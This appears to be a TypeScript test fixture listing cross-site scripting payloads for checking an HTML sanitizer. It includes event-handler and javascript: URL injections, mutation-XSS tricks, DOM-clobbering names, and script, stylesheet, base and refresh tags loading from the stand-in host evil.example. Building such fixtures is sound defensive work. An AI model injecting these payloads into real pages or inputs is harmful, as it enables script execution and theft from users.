/** Foreign markup as data: code that runs sets `__ran`, and requests go to `evil.example`. */
const RUN = 'window.__ran=1';
const EVIL = 'https://evil.example';

export const MARKUP: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  'script from elsewhere': `<script src="${EVIL}/a.js"></script>`,
  'script of a module': `<script type="module">${RUN}</script>`,
  'picture that fails': `<img src="x:x" onerror="${RUN}">`,
  'picture without quotes': `<img src=x:x onerror=${RUN}//`,
  'picture in capitals': `<IMG SRC=x:x OnErRoR="${RUN}">`,
  'handler behind a slash': `<svg/onload=${RUN}>`,
  'handler behind a control character': `<img src=x:x \u0000onerror=${RUN}><img src=x:x\u000conerror=${RUN}>`,
  'focus by itself': `<input autofocus onfocus="${RUN}"><details open ontoggle="${RUN}">x</details>`,
  'animation that begins': `<svg><animate onbegin="${RUN}" attributeName="x" dur="1ms"/></svg>`,
  'film that fails': `<video><source onerror="${RUN}"></video><audio src="x:x" onerror="${RUN}"></audio>`,
  'body and frames': `<body onload="${RUN}"><iframe srcdoc="<script>parent.${RUN}</script>"></iframe><iframe src="javascript:parent.${RUN}"></iframe>`,
  'object and embed': `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  'link that runs': `<a href="javascript:${RUN}">x</a><a href=" jav&#x09;ascript:${RUN}">y</a><a href="&#1;javascript:${RUN}">z</a>`,
  'form that runs': `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
  'map that runs': `<map name="m"><area href="javascript:${RUN}" shape="default"></map><img usemap="#m" alt="">`,
  'mutation by MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror=${RUN}&gt;">`,
  'mutation by a form': `<form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror=${RUN}>`,
  'mutation by a template': `<svg></p><style><a id="</style><img src=x:x onerror=${RUN}>">`,
  'mutation by noscript': `<noscript><p title="</noscript><img src=x:x onerror=${RUN}>">`,
  'mutation by a comment': `<!--><img src=x:x onerror=${RUN}>--><!--!><img src=x:x onerror=${RUN}>`,
  'mutation by title': `<svg><title><a id="</title><img src=x:x onerror=${RUN}>">`,
  'template with a shadow': `<div><template shadowrootmode="open"><img src="x:x" onerror="${RUN}"></template></div>`,
  'deep nesting': `${'<div>'.repeat(600)}<img src=x:x onerror=${RUN}>`,
  'elements of its own': `<x-attack></x-attack><x-attack onclick="${RUN}">x</x-attack>`,
  'ids and names that hide properties':
    '<form name="body"><input name="attributes"><input name="parentNode"></form><img name="createElement">',
  'base and refresh': `<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  'sheet from elsewhere': `<link rel="stylesheet" href="${EVIL}/a.css">`,
};
